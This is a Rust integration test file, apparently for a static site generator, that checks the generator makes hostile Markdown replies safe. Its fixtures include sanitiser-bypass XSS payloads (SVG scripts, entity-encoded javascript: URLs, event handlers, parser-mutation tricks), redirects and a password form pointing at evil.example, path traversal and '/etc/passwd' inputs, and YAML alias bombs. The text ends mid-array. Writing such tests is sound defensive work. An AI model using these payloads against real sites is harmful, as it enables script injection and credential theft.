//! Hostile and broken input, run through the real binary: every case ends in
//! either a clear error naming the file and line (non-zero exit, nothing
//! written, the previous site unchanged) or a safe site (exit 0, the dangerous
//! thing absent from every page), and never in a panic.
//!
//! errors.rs and sanitize.rs beside it hold the basic cases; this file holds
//! the tricks, the extremes and failure safety.

use std::collections::{BTreeMap, BTreeSet};
use std::fs;
use std::path::{Path, PathBuf};
use std::process::Stdio;
use std::sync::OnceLock;
use std::time::{Duration, Instant};

use crate::common::*;
use crate::safety::*;
use scraper::{Html, Node};

/// A reply file's text: `front` lines between the fences, then `body`.
fn reply(front: &str, body: &str) -> String {
    format!("---\n{front}\n---\n{body}")
}

/// Elements and attributes that would act (run, load, redirect, submit) on a
/// whole page. The theme's own scripts and styles are files under static/.
fn page_dangers(raw: &str) -> Vec<String> {
    let doc = Html::parse_document(raw);
    let mut found = Vec::new();
    for node in doc.tree.nodes() {
        let Node::Element(el) = node.value() else {
            continue;
        };
        let name = el.name();
        let attr = |a: &str| el.attr(a).unwrap_or_default();
        match name {
            "script" => {
                let src = attr("src");
                let inline = scraper::ElementRef::wrap(node)
                    .map(|e| e.text().collect::<String>())
                    .unwrap_or_default();
                if src.is_empty() || is_absolute_url(src) || !inline.trim().is_empty() {
                    found.push(format!(
                        "<script src=\"{src}\"> with {} bytes inline",
                        inline.len()
                    ));
                }
            }
            "style" | "base" | "iframe" | "frame" | "object" | "embed" => {
                found.push(format!("a <{name}> element"));
            }
            // The theme's own search form stays on the site.
            "form" if is_absolute_url(attr("action")) => {
                found.push(format!("<form action=\"{}\">", attr("action")));
            }
            // The theme's own Content-Security-Policy is the one allowed.
            "meta"
                if !attr("http-equiv").is_empty()
                    && !attr("http-equiv").eq_ignore_ascii_case("content-security-policy") =>
            {
                found.push(format!("<meta http-equiv=\"{}\">", attr("http-equiv")));
            }
            _ => {}
        }
        for (a, value) in el.attrs() {
            let a = a.to_ascii_lowercase();
            if a.starts_with("on") || a == "style" {
                found.push(format!("<{name} {a}=\"{value}\">"));
            }
            let url = normalised_url(value);
            if [
                "href",
                "src",
                "action",
                "formaction",
                "xlink:href",
                "data",
                "srcset",
            ]
            .contains(&a.as_str())
                && ["javascript:", "vbscript:", "data:"]
                    .iter()
                    .any(|s| url.starts_with(s))
            {
                found.push(format!("<{name} {a}=\"{value}\">"));
            }
        }
    }
    found
}

const URL_ATTRIBUTES: [&str; 7] = [
    "href",
    "src",
    "action",
    "formaction",
    "xlink:href",
    "data",
    "srcset",
];

const SCRIPT_SCHEMES: [&str; 3] = ["javascript:", "vbscript:", "data:"];

/// Where a payload would act: URL-bearing, event-handler and style
/// attributes, and the text of script and style elements. A marker in plain
/// text (or in a `title`) is harmless: it is shown, not run.
fn active_places_with(raw: &str, marker: &str) -> Vec<String> {
    let doc = Html::parse_document(raw);
    let marker = marker.to_ascii_lowercase();
    let mut found = Vec::new();
    for node in doc.tree.nodes() {
        let Node::Element(el) = node.value() else {
            continue;
        };
        for (a, value) in el.attrs() {
            let a = a.to_ascii_lowercase();
            // In a URL the payload only acts behind a script scheme; as a
            // relative address (`jav%09ascript:...`) it is just a dead link.
            let url = normalised_url(value);
            let is_url = URL_ATTRIBUTES.contains(&a.as_str());
            let active = a.starts_with("on")
                || a == "style"
                || a == "http-equiv"
                || (el.name() == "meta" && el.attr("http-equiv").is_some())
                || (is_url && SCRIPT_SCHEMES.iter().any(|s| url.starts_with(s)));
            if active && value.to_ascii_lowercase().contains(&marker) {
                found.push(format!("<{} {a}=\"{value}\">", el.name()));
            }
        }
        if matches!(el.name(), "script" | "style")
            && let Some(e) = scraper::ElementRef::wrap(node)
            && e.text()
                .collect::<String>()
                .to_ascii_lowercase()
                .contains(&marker)
        {
            found.push(format!("<{}> holding {marker}", el.name()));
        }
    }
    found
}

// ---------------------------------------------------------------------------
// Hostile replies that must build into a safe site. All of them go into one
// site, built once; each test checks its own reply.

/// (reply id, Markdown body, markers that sit inside the dangerous part).
const HOSTILE: &[(&str, &str, &[&str])] = &[
    (
        "svg",
        "An answer that hides scripts in a drawing, written in plain English for the readers.\n\n\
<svg><script>alert('svg1')</script></svg>\n\n\
<svg onload=\"alert('svg2')\"><circle r=\"5\"/></svg>\n\n\
<svg><a xlink:href=\"javascript:alert('svg3')\"><text>link</text></a></svg>\n\n\
<svg><foreignObject><iframe srcdoc=\"svg4\"></iframe></foreignObject></svg>\n\n\
<svg><animate attributeName=\"href\" values=\"javascript:alert('svg5')\"/><use href=\"data:image/svg+xml,svg6\"/></svg>\n",
        &["svg1", "svg2", "svg3", "svg4", "svg5", "svg6"],
    ),
    (
        "entities",
        "An answer with links whose address is spelled with character references.\n\n\
<a href=\"&#106;avascript:alert('ent1')\">one</a>\n\
<a href=\"jav&#x09;ascript:alert('ent2')\">two</a>\n\
<a href=\"&#x6A;&#x61;&#x76;&#x61;&#x73;&#x63;&#x72;&#x69;&#x70;&#x74;&#x3A;alert('ent3')\">three</a>\n\
<a href=\"javascript&colon;alert('ent4')\">four</a>\n\
<a href=\"&#0000106;avascript:alert('ent5')\">five</a>\n\
<a href=\" &#14;  javascript:alert('ent6')\">six</a>\n\
<a href=\"jav&#x10;ascript:alert('ent9')\">nine</a> <a href=\"java&#x01;script:alert('ent10')\">ten</a>\n\n\
A [Markdown one](&#106;avascript:alert('ent7')) and [another](jav&#x09;ascript:alert('ent8')).\n",
        &[
            "ent1", "ent2", "ent3", "ent4", "ent5", "ent6", "ent7", "ent8", "ent9", "ent10",
        ],
    ),
    (
        "mixed-case",
        "An answer whose links use the script scheme in odd capitals and spacing.\n\n\
<a href=\"JaVaScRiPt:alert('case1')\">one</a> <a href=\"  javascript:alert('case2')\">two</a>\n\
<a href=\"vbscript:msgbox('case3')\">three</a> <a href=\"java\nscript:alert('case4')\">four</a>\n\n\
[Markdown](JAVASCRIPT:alert('case5')) and <JaVaScRiPt:alert('case6')>.\n",
        &["case1", "case2", "case3", "case4", "case5", "case6"],
    ),
    (
        "data-urls",
        "An answer with data addresses in every place a reader could follow them.\n\n\
![a picture](data:image/svg+xml;base64,data1) and [a link](data:text/html,data2) and ![ref][pic].\n\n\
[pic]: data:text/html,data3\n\n\
<a href=\"data:text/html,data4\">raw link</a> <img src=\"data:image/png;base64,data5\"> \
<object data=\"data:text/html,data6\"></object> <iframe src=\"data:text/html,data7\"></iframe>\n",
        &[
            "data1", "data2", "data3", "data4", "data5", "data6", "data7",
        ],
    ),
    (
        "style-link",
        "An answer that tries to restyle the page and load a stylesheet from elsewhere.\n\n\
<style>body { background: url('style1') }</style>\n\n\
<link rel=\"stylesheet\" href=\"https://evil.example/style2.css\">\n\n\
<p style=\"position:fixed;background:url('style3')\">covering text</p>\n\n\
<div style=\"color:red\" class=\"x\">styled</div>\n",
        &["style1", "style2", "style3", "color:red"],
    ),
    (
        "meta-refresh",
        "An answer that tries to send the reader to another site after a second.\n\n\
<meta http-equiv=\"refresh\" content=\"1;url=https://evil.example/meta1\">\n\n\
Some text <meta http-equiv=\"set-cookie\" content=\"meta2=1\"> inline.\n",
        &["meta1", "meta2"],
    ),
    (
        "base-href",
        "An answer that tries to move every relative link of the page elsewhere.\n\n\
<base href=\"https://evil.example/base1/\">\n\nInline <base target=\"_blank\" href=\"//evil.example/base2/\"> too.\n",
        &["base1", "base2"],
    ),
    (
        "form",
        "An answer with a login form that would send passwords elsewhere.\n\n\
<form action=\"https://evil.example/form1\" method=\"post\"><input name=\"p\" type=\"password\" \
formaction=\"https://evil.example/form2\"><button formaction=\"https://evil.example/form3\">Log in</button></form>\n\n\
<input form=\"x\" formaction=\"https://evil.example/form4\"> <textarea>form5</textarea>\n",
        &["form1", "form2", "form3", "form4"],
    ),
    (
        "handlers",
        "An answer with event handlers in every spelling a browser accepts.\n\n\
<div onclick=\"alert('on1')\">a</div> <p ONCLICK=alert('on2')>b</p> <b onmouseover = \"alert('on3')\">c</b>\n\n\
<details open ontoggle=alert('on4')><summary>d</summary></details> <a href=\"https://ok.example\" \
onfocus=\"alert('on5')\" autofocus>e</a> <span/onclick=alert('on6')>f</span>\n",
        &["on1", "on2", "on3", "on4", "on5", "on6"],
    ),
    (
        "mutation",
        "An answer with markup that parsers disagree about, a classic way past sanitisers.\n\n\
<noscript><p title=\"</noscript><img src=x onerror=alert('mx1')>\"></noscript>\n\n\
<!--<img src=\"--><img src=x onerror=alert('mx2')//\">\n\n\
<math><mtext><table><mglyph><style><img src=x onerror=alert('mx3')></style></mglyph></table></mtext></math>\n\n\
<title><script>alert('mx4')</script></title> <xmp><script>alert('mx5')</script></xmp>\n\n\
`<script>alert('code1')</script>` and\n\n```html\n<script>alert('code2')</script>\n```\n",
        &["mx1", "mx2", "mx3", "mx4", "mx5", "code1", "code2"],
    ),
];

struct Hostile {
    _site: Site,
    out: PathBuf,
    run: Run,
    /// Every HTML page: path and text.
    pages: Vec<(String, String)>,
}

fn hostile() -> &'static Hostile {
    static BUILT: OnceLock<Hostile> = OnceLock::new();
    BUILT.get_or_init(|| {
        let site = Site::in_folder(scratch_dir("palabre-adversarial-"));
        site.write("site.yaml", FIXTURE_SITE_YAML);
        site.write("d/_discussion.md", FIXTURE_DISCUSSION);
        for (id, body, _) in HOSTILE {
            site.write(
                &format!("d/replies/{id}.md"),
                reply("lang: en\nanswers: [\"1.1\", \"1.2\"]", body),
            );
        }
        let run = site.build();
        let out = site.out.clone();
        let pages = html_files(&out)
            .into_iter()
            .map(|rel| {
                let raw = fs::read_to_string(out.join(&rel)).expect("page");
                (rel, raw)
            })
            .collect();
        Hostile {
            _site: site,
            out,
            run,
            pages,
        }
    })
}

/// Checks reply `id` of the hostile site: shown on its pages, nothing
/// dangerous inside its articles, and none of its markers in an active place
/// on any page.
fn assert_hostile_reply_is_safe(id: &str) {
    let h = hostile();
    assert_built(&h.run);
    let (_, _, markers) = HOSTILE.iter().find(|(i, _, _)| *i == id).expect("case");
    let article = sel(&format!("article[id=\"{id}\"]"));
    for lang in LANGS {
        for p in [
            "replies/ID/index.html",
            "week-1/question-1/index.html",
            "week-1/question-2/index.html",
        ] {
            let rel = format!("{lang}/d/{}", p.replace("ID", id));
            let doc = page(&h.out, &rel);
            let found: Vec<_> = doc.select(&article).collect();
            assert_eq!(found.len(), 1, "{rel}: reply {id} should be shown once");
            let text = text_of(found[0]);
            assert!(
                text.contains("answer"),
                "{rel}: reply {id} lost its text: {text}"
            );
            let bad = dangers(&found[0].inner_html());
            assert!(bad.is_empty(), "{rel}: reply {id} carries {bad:?}");
        }
    }
    for (rel, raw) in &h.pages {
        for m in *markers {
            let at = active_places_with(raw, m);
            assert!(
                at.is_empty(),
                "{rel}: payload {m} of reply {id} is active: {at:?}"
            );
        }
    }
}

#[test]
fn svg_with_script_is_removed() {
    assert_hostile_reply_is_safe("svg");
}

#[test]
fn entity_encoded_script_urls_are_removed() {
    assert_hostile_reply_is_safe("entities");
}

#[test]
fn script_urls_in_any_case_or_spacing_are_removed() {
    assert_hostile_reply_is_safe("mixed-case");
}

#[test]
fn data_urls_in_markdown_and_raw_html_are_removed() {
    assert_hostile_reply_is_safe("data-urls");
}

#[test]
fn style_and_link_tags_and_style_attributes_are_removed() {
    assert_hostile_reply_is_safe("style-link");
}

#[test]
fn meta_refresh_is_removed() {
    assert_hostile_reply_is_safe("meta-refresh");
}

#[test]
fn base_href_is_removed() {
    assert_hostile_reply_is_safe("base-href");
}

#[test]
fn forms_and_inputs_are_removed() {
    assert_hostile_reply_is_safe("form");
}

#[test]
fn event_handlers_in_any_spelling_are_removed() {
    assert_hostile_reply_is_safe("handlers");
}

#[test]
fn parser_confusion_tricks_stay_inert() {
    assert_hostile_reply_is_safe("mutation");
    // Code stays visible as code, escaped.
    let doc = page(&hostile().out, "en/d/replies/mutation/index.html");
    let code: Vec<String> = doc.select(&sel("article code")).map(text_of).collect();
    assert!(
        code.iter()
            .any(|c| c.contains("<script>alert('code1')</script>")),
        "inline code should show the script as text: {code:?}"
    );
}

#[test]
fn no_page_of_the_hostile_site_can_act() {
    let h = hostile();
    assert_built(&h.run);
    assert!(h.pages.len() > 20, "too few pages: {}", h.pages.len());
    for (rel, raw) in &h.pages {
        let bad = page_dangers(raw);
        assert!(bad.is_empty(), "{rel}: {bad:?}");
    }
}

#[test]
fn every_removal_is_reported_with_file_and_line() {
    let h = hostile();
    for (id, body, _) in HOSTILE {
        let file = format!("d/replies/{id}.md");
        // Body lines start on line 5 of the file (three front-matter lines).
        for (needle, what) in [
            ("<svg", "svg"),
            ("<style", "style"),
            ("<meta", "meta"),
            ("<base", "base"),
            ("<form", "form"),
            ("<link", "link"),
        ] {
            let Some(i) = body.lines().position(|l| l.contains(needle)) else {
                continue;
            };
            let line = i + 5;
            let at = format!("{file}:{line}:");
            assert!(
                h.run
                    .stderr
                    .lines()
                    .any(|l| l.contains(&at) && l.to_lowercase().contains("removed")),
                "no warning about the removed {what} at {at}\n{}",
                h.run.describe()
            );
        }
    }
}

// ---------------------------------------------------------------------------
// Template syntax and HTML in front-matter values.

const TEMPLATE_DISCUSSION: &str = r#"---
title: {en: "{{ layout.site_title }} {% raw %} Title"}
organisers: ["{# note #} Org", "<b onclick=alert('org1')>Bold</b>"]
group_label: week
groups:
  - id: 1
    title: {en: "{{ 7 * 7 }} week"}
    questions:
      - id: 1
        text: {en: "{% if true %}yes{% endif %} question <script>alert('q1')</script>"}
---
Intro.
"#;

const TEMPLATE_REPLY: &str = r#"---
author: "{{ page.title }} <img src=x onerror=alert('au1')>"
organisation: "{% for x in [1,2] %}{{ x }}{% endfor %} Org"
country: "{{ 1 + 1 }}"
lang: en
answers: ["1.1"]
---
A reply in English whose front-matter holds template syntax and markup.
"#;

#[test]
fn template_syntax_and_html_in_front_matter_values_appear_literally() {
    let site = Site::new();
    site.write("d/_discussion.md", TEMPLATE_DISCUSSION);
    site.write("d/replies/good.md", TEMPLATE_REPLY);
    let run = site.build();
    assert_built(&run);
    let overview = page(&site.out, "en/d/index.html");
    let h1 = overview
        .select(&sel("h1"))
        .map(text_of)
        .collect::<Vec<_>>()
        .join(" | ");
    assert!(
        h1.contains("{{ layout.site_title }} {% raw %} Title"),
        "discussion title not literal: {h1}"
    );
    let overview_text = text_of(overview.root_element());
    for literal in [
        "{# note #} Org",
        "<b onclick=alert('org1')>Bold</b>",
        "{{ 7 * 7 }} week",
    ] {
        assert!(
            overview_text.contains(literal),
            "en/d/index.html does not show {literal:?} literally"
        );
    }
    let question = page(&site.out, "en/d/week-1/question-1/index.html");
    let q_text = text_of(question.root_element());
    assert!(
        q_text.contains("{% if true %}yes{% endif %} question <script>alert('q1')</script>"),
        "question text not literal: {q_text}"
    );
    let reply_page = page(&site.out, "en/d/replies/good/index.html");
    let r_text = text_of(reply_page.select(&sel("article")).next().expect("article"));
    for literal in [
        "{{ page.title }} <img src=x onerror=alert('au1')>",
        "{% for x in [1,2] %}{{ x }}{% endfor %} Org",
        "{{ 1 + 1 }}",
    ] {
        assert!(
            r_text.contains(literal),
            "reply page does not show {literal:?}: {r_text}"
        );
    }
    assert!(
        !r_text.contains("12 Org"),
        "a template loop was run: {r_text}"
    );
    for rel in html_files(&site.out) {
        let raw = fs::read_to_string(site.out.join(&rel)).expect("page");
        let bad = page_dangers(&raw);
        assert!(bad.is_empty(), "{rel}: {bad:?}");
        for m in ["org1", "q1", "au1"] {
            let at = active_places_with(&raw, m);
            assert!(at.is_empty(), "{rel}: {m} is active: {at:?}");
        }
        assert!(
            !raw.contains(">49 week"),
            "{rel}: {{{{ 7 * 7 }}}} was evaluated"
        );
    }
}

// ---------------------------------------------------------------------------
// Names that would make unsafe addresses or paths.

#[test]
fn discussion_folders_with_spaces_or_unicode_get_web_safe_addresses() {
    for (name, address) in [
        ("my discussion", "my-discussion"),
        ("débat", "debat"),
        ("a;b", "a-b"),
        ("x%2e%2e", "x-2e-2e"),
    ] {
        let site = Site::new();
        site.write(&format!("{name}/_discussion.md"), FIXTURE_DISCUSSION);
        let run = site.build();
        assert_built(&run);
        assert!(
            site.out.join(format!("en/{address}/index.html")).is_file(),
            "{name}: no overview at en/{address}/\n{}",
            run.describe()
        );
        let files = all_files(&site.out);
        assert!(
            files
                .iter()
                .all(|f| f.bytes().all(|b| b.is_ascii_graphic())),
            "{name}: an unsafe name reached the output: {files:?}"
        );
    }
    // A name with no letter or digit makes no address.
    let run = Site::built().refuses(
        &[("¿…?/_discussion.md", FIXTURE_DISCUSSION.as_bytes())],
        Expect {
            file: "¿…?",
            lines: &[],
            words: &["rename"],
        },
    );
    assert_no_panic(&run);
}

#[test]
fn reply_file_names_with_spaces_or_unicode_get_web_safe_addresses() {
    let site = Site::new();
    for name in ["my reply", "réponse", "a&b", "x?y"] {
        site.write(&format!("d/replies/{name}.md"), FIXTURE_REPLY);
    }
    let run = site.build();
    assert_built(&run);
    for address in ["my-reply", "reponse", "a-b", "x-y"] {
        assert!(
            site.out
                .join(format!("en/d/replies/{address}/index.html"))
                .is_file(),
            "no page at en/d/replies/{address}/\n{}",
            run.describe()
        );
    }
    Site::built().refuses(
        &[("d/replies/&&.md", FIXTURE_REPLY.as_bytes())],
        Expect {
            file: "d/replies/&&.md",
            lines: &[],
            words: &["rename"],
        },
    );
}

#[test]
fn hidden_folders_and_files_are_skipped_and_nothing_is_written_outside() {
    let site = Site::built();
    // Names starting with a dot are hidden (`.git`, editor backups): skipped.
    site.write("..d/_discussion.md", FIXTURE_DISCUSSION);
    site.write("..d/replies/r.md", FIXTURE_REPLY);
    site.write("d/replies/..md", FIXTURE_REPLY);
    site.write("d/replies/.draft.md", "not even front-matter");
    let run = site.build();
    assert_built(&run);
    let files = all_files(&site.out);
    assert!(
        files.iter().all(|f| !f.contains("..")),
        "a dotted name reached the output: {files:?}"
    );
    let beside: BTreeSet<String> = fs::read_dir(site.dir.path())
        .expect("read")
        .map(|e| e.expect("entry").file_name().to_string_lossy().into_owned())
        .filter(|n| !n.starts_with(".out.palabre-cache"))
        .collect();
    assert_eq!(
        beside,
        BTreeSet::from(["content", "out"].map(String::from)),
        "something was written beside the output folder"
    );
}

#[test]
fn path_traversal_in_answers_is_refused() {
    bad_reply(
        reply("lang: en\nanswers: [\"1.1\", \"../1.1\"]", "A reply.\n"),
        &[3],
        &["../1.1", "question id"],
    );
    bad_reply(
        reply("lang: en\nanswers: [\"1.1/../..\"]", "A reply.\n"),
        &[3],
        &["1.1/../..", "question id"],
    );
    bad_reply(
        reply(
            "lang: en\nanswers: [\"1.1\"]",
            "Hello.\n<!-- answers: ../1.1 -->\nA part.\n",
        ),
        &[6],
        &["../1.1"],
    );
}

#[test]
fn path_traversal_and_nul_in_lang_are_refused() {
    bad_reply(
        reply("lang: \"../en\"\nanswers: [\"1.1\"]", "A reply.\n"),
        &[2],
        &["`../en`", "unknown language"],
    );
    let run = bad_reply(
        reply("lang: \"en\\0\"\nanswers: [\"1.1\"]", "A reply.\n"),
        &[2],
        &["unknown language"],
    );
    assert!(
        !run.stderr.contains('\0'),
        "a raw NUL was printed to the terminal\n{}",
        run.describe()
    );
    // Shown escaped, as `en\0` (`Run` turns `\` into `/` for Windows paths).
    assert!(
        run.stderr.contains("`en/0`"),
        "the NUL should be shown escaped\n{}",
        run.describe()
    );
    bad_reply(
        reply("lang: /etc/passwd\nanswers: [\"1.1\"]", "A reply.\n"),
        &[2],
        &["/etc/passwd", "unknown language"],
    );
}

// ---------------------------------------------------------------------------
// Extremes: size and depth.

#[test]
fn ten_megabyte_reply_builds() {
    let site = Site::built();
    let paragraph = "This is a long contribution about migration and local development, \
written in English so that its language is clear to every reader of the site. ";
    let mut body = String::with_capacity(10_500_000);
    let mut n = 0;
    while body.len() < 10_000_000 {
        body.push_str(&format!("{n}: {}\n\n", paragraph.repeat(4)));
        n += 1;
    }
    body.push_str("The very last paragraph of the huge reply.\n");
    site.write(
        "d/replies/huge.md",
        reply("lang: en\nanswers: [\"1.1\"]", &body),
    );
    let run = site.build();
    assert_built(&run);
    let raw = fs::read_to_string(site.out.join("en/d/replies/huge/index.html")).expect("page");
    assert!(
        raw.len() > 10_000_000,
        "the reply page lost text: {} bytes",
        raw.len()
    );
    assert!(raw.contains("The very last paragraph of the huge reply."));
    assert!(raw.contains(&format!("{}: This is a long", n - 1)));
}

#[test]
fn hundred_thousand_character_lines_build() {
    let site = Site::built();
    let words = "word ".repeat(20_000);
    let cases = [
        ("words", words.clone()),
        ("brackets", "[".repeat(100_000)),
        ("stars", "*_".repeat(50_000)),
        ("angles", "<".repeat(100_000)),
        ("backticks", "`".repeat(100_000)),
        ("entities", "&#106;".repeat(16_667)),
        ("pipes", format!("| a |\n|---|\n{}", "| ".repeat(50_000))),
    ];
    for (id, line) in &cases {
        site.write(
            &format!("d/replies/{id}.md"),
            reply(
                "lang: en\nanswers: [\"1.1\"]",
                &format!(
                    "A reply in English with a very long line below it.\n\n{line}\n\nEnd of {id}.\n"
                ),
            ),
        );
    }
    let run = site.build();
    assert_built(&run);
    for (id, _) in &cases {
        let raw = fs::read_to_string(site.out.join(format!("en/d/replies/{id}/index.html")))
            .expect("page");
        assert!(
            raw.contains(&format!("End of {id}.")),
            "reply {id} lost its end"
        );
    }
    let words_page =
        fs::read_to_string(site.out.join("en/d/replies/words/index.html")).expect("page");
    assert!(words_page.contains(&words.trim_end()[..1000]));
}

/// The depth of the deepest element inside `article#id` of a page.
fn article_depth(out: &Path, rel: &str, id: &str) -> usize {
    let doc = page(out, rel);
    let article = doc
        .select(&sel(&format!("article[id=\"{id}\"]")))
        .next()
        .unwrap_or_else(|| panic!("{rel}: no article {id}"));
    let base = article.ancestors().count();
    article
        .descendants()
        .map(|n| n.ancestors().count() - base)
        .max()
        .unwrap_or(0)
}

#[test]
fn deeply_nested_lists_quotes_and_html_build_flattened() {
    let site = Site::built();
    let cases = [
        ("lists", format!("{}bottom-lists", "- ".repeat(5_000))),
        ("quotes", format!("{} bottom-quotes", ">".repeat(5_000))),
        ("ordered", format!("{}bottom-ordered", "1. ".repeat(5_000))),
        (
            "divs",
            format!(
                "{}bottom-divs{}",
                "<div>".repeat(5_000),
                "</div>".repeat(5_000)
            ),
        ),
        ("spans", format!("{}bottom-spans", "<span>".repeat(5_000))),
        (
            "emphasis",
            format!(
                "{}bottom-emphasis{}",
                "*a ".repeat(5_000),
                " a*".repeat(5_000)
            ),
        ),
        (
            "links",
            format!("{}bottom-links{}", "[".repeat(5_000), "](x)".repeat(5_000)),
        ),
        ("mixed", format!("{}bottom-mixed", "> - ".repeat(2_500))),
    ];
    for (id, body) in &cases {
        site.write(
            &format!("d/replies/{id}.md"),
            reply(
                "lang: en\nanswers: [\"1.1\"]",
                &format!("A reply in English that nests far too deep.\n\n{body}\n"),
            ),
        );
    }
    let run = site.build();
    assert_built(&run);
    for (id, _) in &cases {
        let rel = format!("en/d/replies/{id}/index.html");
        let raw = fs::read_to_string(site.out.join(&rel)).expect("page");
        assert!(
            raw.contains(&format!("bottom-{id}")),
            "{rel}: the innermost text is lost"
        );
        let depth = article_depth(&site.out, &rel, id);
        assert!(depth <= 60, "{rel}: elements nest {depth} deep");
    }
    for id in ["lists", "quotes", "divs", "spans"] {
        let file = format!("d/replies/{id}.md");
        assert!(
            names_line(&run.stderr, &file, 7)
                && messages_about(&run.stderr, &file).contains("flattened"),
            "no warning that {file}:7 was flattened\n{}",
            run.describe()
        );
    }
}

#[test]
fn moderately_nested_replies_are_not_flattened() {
    let site = Site::built();
    let nested = (0..8)
        .map(|i| format!("{}- level {i}", "  ".repeat(i)))
        .collect::<Vec<_>>()
        .join("\n");
    let quotes = (1..=15)
        .map(|i| format!("{} quoted {i}", ">".repeat(i)))
        .collect::<Vec<_>>()
        .join("\n\n");
    let paras = "<p>one<p>two<br><br><hr>".repeat(100);
    site.write(
        "d/replies/normal.md",
        reply(
            "lang: en\nanswers: [\"1.1\"]",
            &format!(
                "A reply in English with ordinary nesting.\n\n{nested}\n\n{quotes}\n\n{paras}\n"
            ),
        ),
    );
    let run = site.build();
    assert_built(&run);
    assert!(
        !messages_about(&run.stderr, "d/replies/normal.md").contains("flattened"),
        "ordinary nesting was flattened\n{}",
        run.describe()
    );
    let doc = page(&site.out, "en/d/replies/normal/index.html");
    assert_eq!(
        doc.select(&sel("article ul ul ul ul ul ul ul ul li"))
            .count(),
        1
    );
    let deepest = format!("article {}p", "blockquote ".repeat(15));
    assert_eq!(
        doc.select(&sel(&deepest)).count(),
        1,
        "15 nested quotes expected"
    );
    assert_eq!(doc.select(&sel("article hr")).count(), 100);
}

// ---------------------------------------------------------------------------
// Encodings, line ends, empty files.

#[test]
fn bom_and_crlf_build_fine() {
    let site = Site::built();
    let crlf = |s: &str| s.replace('\n', "\r\n");
    site.write("site.yaml", format!("\u{feff}{}", crlf(FIXTURE_SITE_YAML)));
    site.write(
        "d/_discussion.md",
        format!("\u{feff}{}", crlf(FIXTURE_DISCUSSION)),
    );
    site.write(
        "d/replies/windows.md",
        format!(
            "\u{feff}{}",
            crlf("---\nauthor: \"Win\"\nlang: en\nanswers: [\"1.1\", \"1.2\"]\n---\nHello from Windows.\n<!-- answers: 1.2 -->\nOnly for the second question.\n")
        ),
    );
    let run = site.build();
    assert_built(&run);
    let q2 = page(&site.out, "en/d/week-1/question-2/index.html");
    let article = q2
        .select(&sel("article[id=\"windows\"]"))
        .next()
        .expect("the CRLF reply on question 1.2");
    let text = text_of(article);
    assert!(text.contains("Only for the second question."), "{text}");
    assert!(
        !text.contains("Hello from Windows."),
        "the marker was not honoured: {text}"
    );
    let title = text_of(
        page(&site.out, "en/d/index.html")
            .select(&sel("h1"))
            .next()
            .expect("h1"),
    );
    assert_eq!(title, "A discussion");
    let raw = fs::read_to_string(site.out.join("en/d/replies/windows/index.html")).expect("page");
    assert!(!raw.contains('\u{feff}'), "the BOM reached the page");
}

#[test]
fn tabs_in_yaml_are_refused_at_the_tab() {
    bad_reply(
        "---\nlang: en\nanswers: [\"1.1\"]\nauthor: Ada\n\tcountry: Chile\n---\nBody.\n",
        &[5],
        &["tab", "spaces"],
    );
}

#[test]
fn duplicate_keys_are_refused() {
    bad_reply(
        "---\nlang: en\nauthor: Ada\nanswers: [\"1.1\"]\nauthor: Bob\n---\nBody.\n",
        &[5],
        &["duplicate", "author"],
    );
}

#[test]
fn yaml_alias_bombs_are_refused_quickly() {
    let mut items = vec!["&a0 \"1.1\"".to_string()];
    for i in 1..10 {
        items.push(format!(
            "&a{i} [{}]",
            vec![format!("*a{}", i - 1); 9].join(", ")
        ));
    }
    let start = Instant::now();
    bad_reply(
        format!(
            "---\nlang: en\nanswers: [{}]\n---\nBody.\n",
            items.join(", ")
        ),
        &[3],
        &[],
    );
    let many = vec!["*a"; 200].join(", ");
    bad_reply(
        format!("---\nlang: en\nanswers: [&a \"1.1\", {many}]\n---\nBody.\n"),
        &[3],
        &["too large or too complex", "aliases"],
    );
    // Expanding a billion strings would take minutes and gigabytes.
    assert!(
        start.elapsed() < Duration::from_secs(60),
        "alias bombs took {:?}",
        start.elapsed()
    );
}

#[test]
fn an_empty_reply_file_is_refused() {
    bad_reply("", &[1], &["empty", "delete"]);
    bad_reply("\u{feff}\n\n  \n", &[1], &["empty"]);
}

#[test]
fn a_reply_with_front_matter_and_no_text_is_refused() {
    bad_reply(
        "---\nlang: en\nanswers: [\"1.1\"]\n---\n",
        &[5],
        &["no text", "delete"],
    );
    // Only markers and blank lines is no text either.
    bad_reply(
        "---\nlang: en\nanswers: [\"1.1\"]\n---\n\n<!-- answers: 1.1 -->\n   \n",
        &[5],
        &["no text"],
    );
}

#[test]
fn a_summary_without_front_matter_builds() {
    let site = Site::built();
    site.write(
        "d/summaries/1-1.en.md",
        "The summary of the moderators, body only.\n",
    );
    let run = site.build();
    assert_built(&run);
    let text = text_of(page(&site.out, "en/d/week-1/question-1/index.html").root_element());
    assert!(
        text.contains("The summary of the moderators, body only."),
        "{text}"
    );
}

// ---------------------------------------------------------------------------
// Symbolic links.

#[cfg(unix)]
#[test]
fn symlink_loops_are_ignored_with_a_warning() {
    use std::os::unix::fs::symlink;
    let site = Site::built();
    symlink("..", site.content.join("d/replies/up")).expect("symlink");
    symlink("loop", site.content.join("d/replies/loop")).expect("symlink");
    symlink(&site.content, site.content.join("d/itself")).expect("symlink");
    let run = site.build();
    assert_built(&run);
    for name in ["d/replies/up", "d/replies/loop", "d/itself"] {
        let about = messages_about(&run.stderr, name).to_lowercase();
        assert!(
            about.contains("warning") && about.contains("link"),
            "no warning about {name}\n{}",
            run.describe()
        );
    }
}

#[cfg(unix)]
#[test]
fn symlinks_pointing_outside_are_never_followed() {
    use std::os::unix::fs::symlink;
    let site = Site::built();
    let outside = site.dir.path().join("outside");
    site.write_beside(
        "outside/secret.md",
        reply(
            "lang: en\nanswers: [\"1.1\"]",
            "TOP-SECRET-REPLY text that must stay private.\n",
        ),
    );
    site.write_beside(
        "outside/e/_discussion.md",
        FIXTURE_DISCUSSION.replace("A discussion", "SECRET-FIXTURE_DISCUSSION"),
    );
    site.write_beside(
        "outside/e/replies/r.md",
        reply("lang: en\nanswers: [\"1.1\"]", "SECRET-NESTED reply.\n"),
    );
    symlink(
        outside.join("secret.md"),
        site.content.join("d/replies/secret.md"),
    )
    .expect("symlink");
    symlink(outside.join("e"), site.content.join("e")).expect("symlink");
    symlink(
        outside.join("e/replies"),
        site.content.join("d/replies/more"),
    )
    .expect("symlink");
    let run = site.build();
    assert_built(&run);
    for name in ["d/replies/secret.md", "content/e", "d/replies/more"] {
        assert!(
            messages_about(&run.stderr, name)
                .to_lowercase()
                .contains("link"),
            "no warning about {name}\n{}",
            run.describe()
        );
    }
    for (rel, bytes) in snapshot(&site.out) {
        let text = String::from_utf8_lossy(&bytes);
        for secret in [
            "TOP-SECRET-REPLY",
